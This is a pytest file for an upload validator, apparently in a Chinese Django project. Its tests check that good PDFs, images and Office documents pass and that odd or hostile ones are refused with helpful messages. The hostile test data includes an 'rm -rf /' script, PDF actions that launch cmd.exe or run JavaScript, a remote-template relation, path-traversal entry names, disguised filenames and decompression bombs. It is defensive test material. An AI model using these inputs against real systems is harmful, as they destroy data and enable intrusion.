"""What is handed in is checked by content; every refusal says what to do next."""

from __future__ import annotations

import io
import time
import tracemalloc

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile

from kit import odd_files as odd
from xiaoneng.kit import contents, files, packages

LIMIT = 2 * 1024 * 1024
EXE = b"MZ\x90\x00" + odd.noise(4096)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
HEIC = b"\x00\x00\x00\x18ftypheic" + bytes(200)
JAVASCRIPT = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://198.51.100.7/a.dotm" TargetMode="External"/></Relationships>'
)
LINK = REMOTE.replace(b"attachedTemplate", b"hyperlink")
MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def checked(name: str, data: bytes) -> files.Accepted:
    return files.check(name, io.BytesIO(data), limit=LIMIT)


def refusal(name: str, data: bytes) -> str:
    with pytest.raises(files.Refused) as refused:
        checked(name, data)
    return str(refused.value)


def locked(data: bytes) -> bytes:
    """Return the package with the mark of encryption set on its first entry."""
    at = data.index(b"PK\x01\x02")
    return data[:6] + b"\x01" + data[7 : at + 8] + b"\x01" + data[at + 9 :]


def with_wrong_length(data: bytes) -> bytes:
    """Return the package with an entry that unpacks to more than its table of contents says."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 24] + (5).to_bytes(4, "little") + data[at + 28 :]


def changed_at_the_end(data: bytes) -> bytes:
    """Return the package with one byte changed in the last part of its last entry."""
    at = data.index(b"PK\x01\x02") - 100
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


GOOD = {
    "身份证.PDF": (odd.pdf(), "pdf", "application/pdf"),
    "缓存.pdf": (b"\xef\xbb\xbf\r\n" + odd.pdf(), "pdf", "application/pdf"),
    "打开到首页.pdf": (odd.pdf("/OpenAction [3 0 R /Fit]"), "pdf", "application/pdf"),
    "对象流.pdf": (odd.pdf(extra=odd.object_stream(b"10 0 << /Type /Font >>")), "pdf", "application/pdf"),
    "照片.jpeg": (odd.jpeg(), "jpeg", "image/jpeg"),
    "渐进.jpg": (odd.jpeg(progressive=True), "jpeg", "image/jpeg"),
    "手机动态照片.jpg": (odd.jpeg() + bytes(5000), "jpeg", "image/jpeg"),
    "图.png": (odd.png(), "png", "image/png"),
    "申请书.docx": (odd.docx({"word/_rels/document.xml.rels": LINK}), "docx", "application/vnd.openxmlformats"),
    "清单.xlsx": (odd.xlsx(), "xlsx", "application/vnd.openxmlformats"),
    "公文.ofd": (odd.ofd(), "ofd", "application/ofd"),
    "a.exe.pdf": (odd.pdf(), "pdf", "application/pdf"),
    "../../etc/passwd.pdf": (odd.pdf(), "pdf", "application/pdf"),
}

HOSTILE = [
    ("空.pdf", b"", "文件是空的"),
    ("大.pdf", odd.pdf() + bytes(LIMIT), "超过 2 MB，请压缩或拆分"),
    # names
    ("合同\u202efdp.pdf", odd.pdf(), "看不见的控制字符，请改名"),
    ("合同.pdf\x00.exe", odd.pdf(), "看不见的控制字符，请改名"),
    ("合同.pdf.exe", odd.pdf(), "把后缀改为 .pdf"),
    ("照片.jpg", odd.png(), "后缀是 .jpg，内容却是 PNG"),
    ("清单.docx", odd.xlsx(), "后缀是 .docx，内容却是 XLSX"),
    ("合同", odd.pdf(), "没有后缀，请在文件名末尾加上 .pdf"),
    # other kinds
    ("照片.jpg", EXE, "这是程序"),
    ("脚本.pdf", b"#!/bin/sh\nrm -rf /\n", "这是程序"),
    ("程序.png", b"\x7fELF" + bytes(100), "这是程序"),
    ("图.svg", SVG, "网页和 SVG"),
    ("图.png", SVG, "网页和 SVG"),
    ("合同.pdf", HTML, "网页和 SVG"),
    ("说明.txt", "你好".encode(), "认不出这种文件；请上传 PDF、JPG"),
    ("照片.heic", HEIC, "兼容性最佳（JPG）"),
    ("照片.jpg", HEIC, "兼容性最佳（JPG）"),
    ("图.webp", odd.other_image("WEBP"), "另存为 JPG 或 PNG"),
    ("图.gif", odd.other_image("GIF"), "另存为 JPG 或 PNG"),
    ("图.bmp", odd.other_image("BMP"), "另存为 JPG 或 PNG"),
    ("图.tif", odd.other_image("TIFF"), "另存为 JPG 或 PNG"),
    ("表.doc", OLE, "旧版 Office"),
    ("加密.docx", OLE, "取消密码"),
    ("包.rar", b"Rar!\x1a\x07\x01\x00" + bytes(100), "请解压后逐个上传"),
    ("包.7z", b"7z\xbc\xaf\x27\x1c" + bytes(100), "请解压后逐个上传"),
    ("包.gz", b"\x1f\x8b\x08" + bytes(100), "请解压后逐个上传"),
    ("包.zip", odd.package({"a.txt": b"a"}), "请解压后逐个上传"),
    ("空包.zip", odd.package({}), "请解压后逐个上传"),
    ("包.docx", odd.package({"word/document.xml": b"<a/>"}), "请解压后逐个上传"),
    # two kinds at once
    ("合同.pdf", HTML + b"\n" + odd.pdf(), "网页和 SVG"),
    ("合同.pdf", b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + odd.pdf(), "夹带了另一种格式"),
    ("照片.jpg", odd.jpeg(comment=b"%PDF-1.4 1 0 obj"), "夹带了另一种格式"),
    ("照片.jpg", odd.jpeg(comment=b"<script>alert(1)</script>"), "夹带了另一种格式"),
    ("照片.jpg", odd.jpeg() + odd.package({"a.exe": EXE}), "夹带了另一种格式"),
    ("合同.pdf", odd.pdf() + odd.package({"a.txt": b"a"}), "夹带了另一种格式"),
    ("图.png", odd.png() + odd.docx(), "夹带了另一种格式"),
    ("合同.docx", odd.package({"%PDF-1.7": odd.pdf()} | odd.office(odd.WORD, "word/document.xml"), True), "夹带了"),
    # PDF
    ("半截.pdf", odd.pdf()[:300], "PDF 文件不完整"),
    ("假.pdf", b"%PDF-1.7\nstartxref\n%%EOF\n", "PDF 文件不完整"),
    ("加密.pdf", odd.pdf(trailer="/Encrypt 5 0 R"), "设置了密码或权限限制"),
    ("加密.pdf", odd.pdf(trailer="/Encrypt<</Filter/Standard>>"), "设置了密码或权限限制"),
    ("脚本.pdf", odd.pdf(JAVASCRIPT), "用“打印为 PDF”另存一份"),
    ("脚本.pdf", odd.pdf(JAVASCRIPT.replace("/JavaScript", "/J#61vaScr#69pt")), "脚本、自动运行的程序或附件"),
    ("脚本.pdf", odd.pdf(extra=odd.object_stream(b"10 0 << /S /JavaScript /JS (1) >>")), "脚本、自动运行的程序或附件"),
    ("怪.pdf", odd.pdf(extra=odd.object_stream(b"x", b"/Type /ObjStm /Filter /LZWDecode", bytes)), "脚本、自动运行"),
    ("炸弹.pdf", odd.pdf(extra=odd.object_stream(bytes(contents.MAX_OBJECTS + 1))), "脚本、自动运行的程序或附件"),
    ("运行.pdf", odd.pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "脚本、自动运行的程序或附件"),
    ("附件.pdf", odd.pdf("/Names << /EmbeddedFiles 7 0 R >>"), "脚本、自动运行的程序或附件"),
    # pictures
    ("像素.png", odd.png_claiming(30_000, 30_000), "超过 5000 万像素"),
    ("像素.png", odd.png_claiming(8_000, 7_000), "超过 5000 万像素"),
    ("文字炸弹.png", odd.png_with_text_bomb(), "图片不完整或已损坏"),
    ("半截.png", odd.png()[:-40], "图片不完整或已损坏"),
    ("改动.png", odd.png()[:100] + b"\x00\x01\x02" + odd.png()[103:], "图片不完整或已损坏"),
    ("半截.jpg", odd.jpeg((200, 200))[:-3000], "图片不完整或已损坏"),
    ("半截.jpg", odd.jpeg((200, 200), progressive=True)[:-3000], "图片不完整或已损坏"),
    ("头.jpg", b"\xff\xd8\xff\xe0" + odd.noise(500), "图片不完整或已损坏"),
    # documents
    ("炸弹.docx", odd.docx({"word/a.xml": bytes(30 * 2**20)}), "解开后过大或压缩得异常紧"),
    ("碎.docx", odd.docx({f"word/{n}.xml": b"" for n in range(1000)}), "解开后过大或压缩得异常紧"),
    ("宏.docx", odd.docx({"word/vbaProject.bin": OLE}), "文档带有宏"),
    ("宏.xlsx", odd.docx({}, MACRO_SHEET, "xl/workbook.xml"), "文档带有宏"),
    ("老宏.xlsx", odd.xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}), "文档带有宏"),
    ("套.docx", odd.docx({"word/embeddings/a.xlsx": odd.xlsx()}), "嵌有别的文件"),
    ("套.docx", odd.docx({"word/embeddings/a.bin": EXE}), "嵌有别的文件"),
    ("套.ofd", odd.ofd({"Doc_0/Attachs/a.rar": b"Rar!\x1a\x07\x00"}), "嵌有别的文件"),
    ("取.docx", odd.docx({"word/_rels/settings.xml.rels": REMOTE}), "从网上自动取内容"),
    ("穿越.docx", odd.docx({"../../../etc/cron.d/a": b"a"}), "内部的文件名不正常"),
    ("绝对.docx", odd.docx({"/etc/passwd": b"a"}), "内部的文件名不正常"),
    ("反斜.docx", odd.docx({"word\\..\\..\\a": b"a"}), "内部的文件名不正常"),
    ("同名.docx", odd.docx({"word/DOCUMENT.xml": b"a"}), "内部的文件名不正常"),
    ("加密.docx", locked(odd.docx()), "文档设置了密码"),
    ("半截.docx", odd.docx()[:-30], "文档已损坏"),
    ("前缀.docx", odd.docx()[:4] + bytes(100) + odd.docx(), "文档已损坏"),
    ("谎.docx", with_wrong_length(odd.docx()), "文档已损坏"),
    ("改动.docx", changed_at_the_end(odd.docx({"word/media/a.bin": odd.noise(1_200_000)})), "文档已损坏"),
    ("乱.docx", b"PK\x03\x04" + odd.noise(2000), "文档已损坏"),
    ("演示.docx", odd.docx({}, SLIDES, "ppt/presentation.xml"), "另存为 PDF 后再上传"),
]  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_a_good_file_is_accepted_and_its_stream_rewound(name):
    data, kind, mime = GOOD[name]
    stream = io.BytesIO(data)
    accepted = files.check(name, stream, limit=LIMIT)
    assert (accepted.kind, accepted.size, stream.tell()) == (kind, len(data), 0)
    assert accepted.mime.startswith(mime)
    assert accepted.name == name.rpartition("/")[2]


@pytest.mark.parametrize(("name", "data", "words"), HOSTILE, ids=[f"{n}-{row[2]}" for n, row in enumerate(HOSTILE)])
def test_an_odd_or_hostile_file_is_refused_in_words_that_help(name, data, words):
    message = refusal(name, data)
    assert words in message
    assert "请" in message


@pytest.mark.parametrize("wrap", [SimpleUploadedFile, None])
def test_an_upload_is_checked_as_it_comes_from_a_form(wrap):
    data = odd.docx()
    upload = wrap("申请书.docx", data) if wrap else TemporaryUploadedFile("申请书.docx", "", len(data), None)
    if not wrap:
        upload.write(data)
    with upload:
        assert files.check(upload.name, upload, limit=LIMIT).kind == "docx"


def test_a_file_cut_anywhere_or_changed_anywhere_never_breaks_the_check():
    for data in (odd.pdf(), odd.jpeg(), odd.png(), odd.docx()):
        name = "a." + {b"%P": "pdf", b"\xff\xd8": "jpg", b"\x89P": "png", b"PK": "docx"}[data[:2]]
        for at in range(1, len(data), max(1, len(data) // 60)):
            for broken in (data[:at], data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]):
                try:
                    checked(name, broken)
                except files.Refused as refused:
                    assert "请" in str(refused)


BOMBS = {
    "listing.docx": lambda: odd.docx({f"word/{number}": b"" for number in range(20_000)}),
    "ratio.docx": lambda: odd.docx({f"word/{number}": bytes(2 * 10**6) for number in range(110)}),
    "text.png": odd.png_with_text_bomb,
    "objects.pdf": lambda: odd.pdf(extra=odd.object_stream(bytes(contents.MAX_OBJECTS - 1)) * 3),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_bomb_costs_neither_memory_nor_time(name):
    bomb = BOMBS[name]()
    tracemalloc.start()
    began = time.process_time()
    with pytest.raises(files.Refused):
        checked(name, bomb)
    spent, (_, peak) = time.process_time() - began, tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 150 * 2**20
    assert spent < 5


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\a\\合同.pdf", "合同.pdf"),
        ("合同\u202efdp.exe", "合同fdp.exe"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ("营业执照（正本）—２０２６．pdf", "营业执照（正本）—２０２６．pdf"),
        ('a<b>:"c|d?*.pdf', "a_b___c_d__.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("  .pdf. ", "pdf"),
        ("..", "未命名"),
        ("", "未命名"),
        ("\u200b", "未命名"),
    ],
)
def test_a_name_is_made_safe(name, safe):
    assert files.safe_name(name) == safe


def test_a_long_name_is_cut_between_characters_and_keeps_its_extension():
    name = files.safe_name("证" * 300 + ".pdf")
    assert name.endswith("证.pdf")
    assert len(name.encode()) <= files.NAME_BYTES


@pytest.mark.parametrize("record", [odd.noise(40), b"\0\0\0\0\x09\x09\x09\x09" + odd.noise(8) + b"\0\0"])
def test_chance_bytes_that_look_like_an_archive_do_not_refuse_a_photograph(record):
    assert checked("a.jpg", odd.jpeg() + bytes(100) + b"PK\x05\x06" + record).kind == "jpeg"


@pytest.mark.filterwarnings("ignore")
def test_a_picture_of_too_many_pixels_is_refused_also_where_warnings_are_none():
    assert "超过 5000 万像素" in refusal("a.png", odd.png_claiming(8_000, 7_000))


def test_a_document_that_unpacks_to_too_much_is_refused_however_loosely_it_is_packed(monkeypatch):
    monkeypatch.setattr(packages, "MAX_UNPACKED", 300_000)
    assert "解开后过大" in refusal("a.docx", odd.docx({"word/media/a.bin": odd.noise(300_000)}))
    assert checked("a.docx", odd.docx({"word/media/a.bin": odd.noise(200_000)})).kind == "docx"


def test_a_table_of_contents_is_measured_before_it_is_read(monkeypatch):
    bomb = BOMBS["listing.docx"]()
    monkeypatch.setattr(packages.zipfile, "ZipFile", None)
    assert "解开后过大" in refusal("a.docx", bomb)


def test_a_document_with_endless_relations_is_refused():
    relations = {"word/_rels/a.rels": bytes(packages.MAX_LISTING + 1), "word/media/a.bin": odd.noise(200_000)}
    assert "解开后过大" in refusal("a.docx", odd.docx(relations))


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("a.jpg", odd.jpeg()[:2] + b"\xff\xfe\x00\x02" * 60 + odd.jpeg()[2:], "图片不完整或已损坏"),
        ("a.png", odd.png()[:33] + odd.chunk(b"tEXt", b"a\0b") * 60 + odd.png()[33:], "图片不完整或已损坏"),
        ("a.pdf", odd.pdf(extra=b"stream\n" * 600), "PDF 文件不完整"),
        ("a.pdf", odd.pdf(extra=b"#41" * 600), "脚本、自动运行的程序或附件"),
    ],
)
def test_a_file_of_countless_small_parts_is_refused_before_it_costs_time(monkeypatch, name, data, words):
    assert checked(name, data)
    monkeypatch.setattr(contents, "MAX_PARTS", 50)
    assert words in refusal(name, data)
